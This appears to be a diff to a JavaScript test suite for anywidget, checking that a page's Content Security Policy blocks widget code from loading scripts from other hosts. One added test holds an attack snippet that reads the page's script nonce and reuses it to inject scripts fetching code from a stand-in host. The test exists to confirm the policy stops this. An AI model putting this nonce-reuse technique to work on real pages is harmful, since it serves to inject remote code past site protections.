@@ -72,8 +72,27 @@ describe('anywidget', () => {
   it('says which host code comes from, and the policy stops it before it leaves the page', async () => {
     const page = await draw(await fixture('widgets/anywidgets'));
     await page.frame.getByText('loads code from esm.sh').waitFor();
-    assert.deepEqual(await page.violations(), ['script-src-elem https://esm.sh/canvas-confetti@1']);
+    assert.deepEqual(
+      [...new Set(await page.violations())],
+      ['script-src-elem https://esm.sh/canvas-confetti@1'],
+    );
     assert.deepEqual(page.requests, []);
+  });
+
+  it('cannot use the nonce of the page to load code from elsewhere', async () => {
+    const code = `const { nonce } = document.querySelector('script[nonce]');
+      const add = (members) => document.head.append(Object.assign(document.createElement('script'), { nonce, ...members }));
+      add({ src: 'https://elsewhere.example/a.js' });
+      add({ textContent: "globalThis.inside = 1; import('https://elsewhere.example/b.js').catch(() => { globalThis.done = true; })" });
+      export default { render() {} };`;
+    const page = await draw(byHand({ one: anywidget(code) }, 'one'));
+    await page.frame.waitForFunction(() => 'done' in globalThis);
+    assert.equal(await page.frame.evaluate('globalThis.inside'), 1, 'it does have the nonce');
+    assert.deepEqual(page.requests, []);
+    assert.deepEqual([...new Set(await page.violations())].sort(), [
+      'script-src-elem https://elsewhere.example/a.js',
+      'script-src-elem https://elsewhere.example/b.js',
+    ]);
   });
 
   it('says so where code throws or never starts; the others work', async () => {
